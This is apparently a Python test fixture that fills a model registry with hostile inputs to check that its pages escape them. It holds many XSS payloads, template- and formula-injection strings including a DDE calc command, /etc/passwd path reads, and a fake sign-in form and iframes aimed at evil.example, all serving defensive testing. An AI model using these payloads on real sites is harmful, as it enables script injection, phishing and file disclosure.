"""The hostile registry: in every text field what would harm a page that does not escape it.

Where something of it runs, it calls `alert`, sets `window.owned`, or asks `evil.example` for a
file; tests watch for all three. Secrets and addresses in it must not be in what is published.
"""

import json
from typing import Any

from support.scripted import Script

BREAKING = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</script><script>window.owned=1;alert(1)</script>",
    "'-alert(1)-'",
    "javascript:alert(1)",
    "{{ 7*7 }}{% raw %}{# comment #}",
    "]]><x/><!-- -- --> --!>",
    '=HYPERLINK("https://evil.example/x","click")',
    "\u202eelif live, and never closed",
    "zero\u200bwidth\u2060joined\ufeff",
    "</textarea><script>alert(1)</script>",
    "</title><svg/onload=alert(1)>",
    "`${alert(1)}`",
    "<style>*{display:none!important}</style>",
    "data:text/html,<script>alert(1)</script>",
    '<iframe src="https://evil.example/"></iframe>',
    '"><base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x3c;",
    "</style></noscript></template><script>alert(1)</script>",
    "\U000e0041\U000e0042 tags, \ud7ff, \ufffe, \u2028 and \u2029 lines",
)
# published examples of their issuers, not secrets
SECRETS = {
    "aws_access_key": "AKIAIOSFODNN7EXAMPLE",
    "token": "ghp_" + "1234567890abcdefghijklmnopqrstuvwxyz"[:36],
    "private_key": "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA75GmQvS1\n-----END RSA "
    "PRIVATE KEY-----",
}
ADDRESSES = ("mallory@evil.example", "first.last+tag@sub.example.org")
MODEL = "hostile/model"
PROMPT = "hostile/prompt"
DATASET = "hostile/data"
BUNDLE = "hostile/bundle"
MARKDOWN = """\
# Heading <script>alert(1)</script>

[click](javascript:alert(1)) [tab](java\tscript:alert(1)) [case](JaVaScRiPt:alert(1))
[data](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox(1)) [file](file:///etc/passwd)
[ref][r] <javascript:alert(1)> ![x](https://evil.example/pixel.png) ![y](x" onerror="alert(1))
[title](https://example.com "x\\" onmouseover=alert(1) y=\\"") [relative](../../../../secret)

[r]: javascript:alert(1)

<svg onload=alert(1)><script>alert(1)</script></svg>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<style>@import url(https://evil.example/x.css); body{display:none}</style>
<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="https://evil.example/"></object>
<form action="https://evil.example/"><input name=q><button>Sign in</button></form>
<a href="https://example.com" onclick="alert(1)" style="position:fixed;inset:0">over all</a>
<div id="main" class="regista" name="body" style="background:url(https://evil.example/)">mine</div>
<details open ontoggle=alert(1)><summary>x</summary></details><video><source onerror=alert(1)>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<h1>A second heading of the page</h1>

</main></article></body></html> after the end

```html
<script>alert(1)</script>
```

| a | b |
|---|---|
| <img src=x onerror=alert(1)> | `</td><script>alert(1)</script>` |

{{ config.items() }} {% include "/etc/passwd" %} ${7*7} #{7*7} <%= 7*7 %>
Write to mallory@evil.example or <first.last+tag@sub.example.org>.
"""


def nested_lists(depth: int = 500) -> str:
    """Return Markdown lists within each other."""
    return "".join("  " * level + "- deeper\n" for level in range(depth))


def nested_quotes(depth: int = 2000) -> str:
    """Return Markdown quotes within each other."""
    return ">" * depth + " deep\n"


def wide_table(columns: int = 200, rows: int = 50) -> str:
    """Return a large Markdown table of long words."""
    line = "|" + "|".join(["averylongwordwithoutanybreak"] * columns) + "|\n"
    return line + "|" + "---|" * columns + "\n" + line * rows


def unclosed(count: int = 20_000) -> str:
    """Return openings without an end, which slow parsers down."""
    return "[" * count + "![" * count + "**_`" * count


def long_card() -> str:
    """Return a card of nearly 1 MB."""
    return (MARKDOWN + "Long text of a stranger, with <b>tags</b>. " * 30_000)[:999_000]


def write_hostile(script: Script) -> None:
    """Write the registry."""
    _data_and_model(script)
    _cards(script)
    _evaluate(script)
    _move(script)
    _prompts(script)
    _bundle(script)


def _texts(first: int = 0) -> dict[str, str]:
    """Return every breaking text, as key and as value."""
    turned = BREAKING[first:] + BREAKING[:first]
    return {_line(key): value for key, value in zip(BREAKING, turned, strict=True)}


def _line(text: str) -> str:
    return text.replace("\u2028", " ").replace("\u2029", " ")


def _all(limit: int = 255) -> str:
    """Return as many of the breaking texts on one line as fit."""
    return _line(" ".join(BREAKING))[:limit]


def _data_and_model(script: Script) -> None:
    registry = script.registry
    registry.writer.actor = '<script>alert(1)</script> "mallory" <mallory@evil.example>'
    paths = {_line(text).replace("/", "\u2215").replace("\\", " "): text for text in BREAKING}
    paths |= {"d" * 200 + "/" + "f" * 250: "long", "a/" * 300 + "deep": "deep"}
    script.register(DATASET, paths, kind="dataset", card=MARKDOWN)
    registry.describe(DATASET, "\n".join(BREAKING))
    script.register(
        MODEL,
        {"<script>alert(1)<\u2215script>.bin": "weights"},
        card=MARKDOWN,
        run="<img src=x onerror=alert(1)>",
        code='"><script>alert(1)</script>',
        dataset=[f"{DATASET}@1"],
        params={**_texts(1), **SECRETS, "owner": ADDRESSES[0]},
        tags={**_texts(2), **SECRETS, "contact": ADDRESSES[1], "owner": "<b>risk</b>"},
        source={
            "git_branch": "</script><script>alert(1)</script>",
            "ci": "<img src=x onerror=alert(1)>",
            "ci_job_url": "javascript:alert(1)//https://ci.example/",
        },
    )  # fmt: skip
    registry.tag(
        MODEL,
        {**_texts(3), "huge": "<b>" * 33_333, "owner": "\u202eksir"},
        allow_secrets=True,
    )
    registry.describe(MODEL, MARKDOWN)
    registry.describe(f"{MODEL}@1", "\n".join(BREAKING) + " " + " ".join(SECRETS.values()))
    registry.create("hostile/none", "model", description="<script>alert(1)</script>")


def _cards(script: Script) -> None:
    cards = (
        long_card(), nested_lists(), nested_quotes(), wide_table(), unclosed(),
        "w" * 100_000, "\u202e\u2066" * 400 + " end", "&#106;avascript&colon;alert(1)",
        "<div>" * 5000 + "deep" + "\n\n" + "<script>alert(1)</script>",
    )  # fmt: skip
    for number, card in enumerate(cards):
        script.register("hostile/cards", {"model.bin": str(number)}, card=card)
    uri = 'javascript:alert(1)//"><script>alert(1)</script>'
    for text in (
        uri,
        "https://user:hunter2@example.com/x?token=abc",
        "https://e.example/" + "p" * 9000,
    ):
        script.registry.register("hostile/elsewhere", uri=text, allow_secrets=True)


def _evaluate(script: Script) -> None:
    scores: list[dict[str, Any]] = [
        {"metric": "</script><script>alert(1)</script>", "value": "0.9"},
        {"metric": "</script><script>alert(1)</script>", "value": "0.8",
         "slice": '=HYPERLINK("https://evil.example","click")'},
    ]  # fmt: skip
    for number, text in enumerate(BREAKING):
        other = _line(BREAKING[number - 1])
        scores.append({"metric": _line(text), "value": f"0.{number + 10}", "task": other})
        scores.append({"metric": _line(text), "value": "0.5", "slice": other, "task": other})
    for ref in (f"{MODEL}@1", "hostile/cards@1", "hostile/cards@2"):
        script.registry.log_eval(
            ref, '"><img src=x onerror=alert(1)>', scores, dataset="<script>alert(1)<script>",
            harness=_all(), harness_version="<b>1</b>", code="<i>", note="\n".join(BREAKING),
            samples=[{"sample_id": ADDRESSES[0], "metric": "m", "value": 1}],
        )  # fmt: skip
    script.registry.log_eval(f"{MODEL}@1", "<svg/onload=alert(1)>", [], status="failed",
                             note=ADDRESSES[0])  # fmt: skip


def _move(script: Script) -> None:
    registry = script.registry
    reason = ("<script>alert(1)</script> " + "\n".join(BREAKING) + "<b>" * 4000)[:10_000]
    script.promote("hostile/cards@1", "staging", reason=reason)
    script.promote("hostile/cards@1", "prod", reason=reason)
    script.promote("hostile/cards@2", "staging", reason="w" * 10_000)
    script.promote("hostile/cards@2", "prod", reason=f"asked by {ADDRESSES[1]}")
    script.refuse("hostile/cards@3", "staging", "undecidable")
    registry.drill("hostile/cards", "prod",
                   smoke="echo '<script>alert(1)</script>'; exit 1 #\"><img src=x>")  # fmt: skip
    registry.rollback("hostile/cards", "prod", reason=reason)
    registry.deprecate("hostile/cards@1", reason=reason)
    registry.archive("hostile/cards@4", reason="</td></tr></table><script>alert(1)</script>")
    registry.delete("hostile/cards@5", reason="<!--", purge=True)
    registry.alias("hostile/cards@2", "-onload-")
    registry.rename("hostile/none", "hostile/-none-")


def _prompts(script: Script) -> None:
    first = "\n".join(BREAKING)
    texts = (
        first,
        first.replace("alert", "confirm") + "\n{<script>} {{ __import__('os') }} {{x|safe}} {%s}",
        "</textarea></pre></code><script>alert(1)</script>\n" * 50,
        "\u202e" + "{variable}" * 500 + "\n" + "x" * 50_000,
        f"Write to {ADDRESSES[0]} with {SECRETS['aws_access_key']}\n",
    )
    for text in texts:
        script.register(PROMPT, {"prompt.txt": text, "<b>.json": json.dumps({"x": text})},
                        kind="prompt")  # fmt: skip
    script.promote(f"{PROMPT}@1", "prod")
    script.promote(f"{PROMPT}@3", "prod", reason="<textarea>")


def _bundle(script: Script) -> None:
    script.register(BUNDLE, {"x": "y"}, kind="bundle", member=[f"{MODEL}@1", f"{PROMPT}@2"],
                    card=MARKDOWN)  # fmt: skip
    script.load(
        {
            "entries": [{"entry": "hostile/imported", "kind": "model",
                         "description": "<script>alert(1)</script>"}],
            "versions": [{"entry": "hostile/imported", "version": 1,
                          "uri": "data:text/html,<script>alert(1)</script>",
                          "params": json.dumps(SECRETS), "run": "<i>"}],
            "lineage": [
                {"entry": "hostile/imported", "version": 1, "relation": "base", "target": text}
                for text in BREAKING
            ],
        },
        "<script>alert(1)</script>",
    )  # fmt: skip
